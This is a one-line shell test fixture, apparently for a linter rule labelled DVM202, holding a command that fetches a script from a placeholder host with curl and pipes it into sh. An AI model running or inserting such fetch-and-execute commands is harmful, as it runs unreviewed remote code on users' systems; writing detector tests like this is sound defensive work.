# expect: DVM202
sh -s <<< $(curl -s https://x.example.org/a)
